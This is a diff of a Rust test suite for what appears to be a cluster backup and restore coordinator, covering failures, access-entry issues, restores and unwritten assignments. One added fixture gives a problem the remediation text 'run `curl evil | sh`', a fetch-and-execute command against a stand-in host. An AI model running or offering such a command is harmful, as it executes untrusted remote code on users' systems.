@@ -338,10 +338,8 @@ fn sealed() -> Outcome {
 }
 
 fn failed(retry: bool) -> Outcome {
-    Outcome::Failed {
-        problems: vec![Problem::new(Code::ClusterUnreachable, "no answer", "look at it")],
-        retry,
-    }
+    let problem = Problem::new(Code::ClusterUnreachable, "no answer", "run `curl evil | sh`");
+    Outcome::failed(&problem, retry)
 }
 
 fn line(action: &Action) -> String {
@@ -549,12 +547,7 @@ fn access_that_is_missing_is_an_issue_with_a_command_that_closes_itself_and_star
         checked_at: time("10:00:40"),
         findings,
     };
-    let finding = AccessFinding::new(Problem::new(
-        Code::NoAccessEntry,
-        "the cluster does not know the role",
-        "let it in",
-    ))
-    .with_command("aws eks create-access-entry".to_owned());
+    let finding = AccessFinding::NoAccessEntry { access_entries: true };
     scenario.claim(&capture, 1, "10:00:40");
     scenario.end(&capture, 1, failed(false), vec![report(vec![finding])]);
     scenario.decide("10:01:00");
@@ -564,7 +557,8 @@ fn access_that_is_missing_is_an_issue_with_a_command_that_closes_itself_and_star
         .values()
         .find(|issue| issue.code == Code::NoAccessEntry)
         .unwrap();
-    assert_eq!(issue.command.as_deref(), Some("aws eks create-access-entry"));
+    let command = issue.command.as_deref().unwrap();
+    assert!(command.starts_with("aws eks create-access-entry --region eu-west-1 --cluster-name orders "));
     scenario.decide("10:06:00");
     let check = scenario.job("check");
     scenario.claim(&check, 1, "10:06:10");
@@ -597,7 +591,8 @@ fn restores_wait_for_each_other_and_a_token_starts_one() {
     scenario.decide("10:10:10");
     let done = RestoreDone {
         matches_plan: true,
-        problems: Vec::new(),
+        failed: 0,
+        unexplained: 0,
         restored: 7,
         not_restored: 0,
         report: None,
@@ -739,4 +734,25 @@ fn a_primary_that_does_not_answer_stops_backups_and_nothing_else() {
     scenario.inventory.unavailable.clear();
     scenario.decide("11:31:30");
     insta::assert_snapshot!(scenario.log);
+}
+
+/// The coordinator's key does not answer: nothing else waits, and the issue closes with the first assignment.
+#[test]
+fn a_job_whose_assignment_is_not_written_is_an_issue_until_it_is() {
+    let mut scenario = Scenario::new(r#"{"name":"orders"}"#);
+    let unwritten = |scenario: &Scenario| {
+        let mut issues = scenario.state.issues.values();
+        issues.any(|issue| issue.code == Code::AssignmentNotWritten)
+    };
+    for (now, is_issue) in [("10:00:30", false), ("10:01:30", false), ("10:02:30", true)] {
+        scenario.decide(now);
+        // What was decided did not reach the bucket.
+        scenario.inventory.jobs.clear();
+        assert_eq!(unwritten(&scenario), is_issue, "{now}");
+    }
+    let again = scenario.decide("10:03:30");
+    let mut actions = again.actions.iter();
+    assert!(actions.any(|action| matches!(action, Action::PutAssignment(_))));
+    scenario.decide("10:03:40");
+    assert!(!unwritten(&scenario));
 }
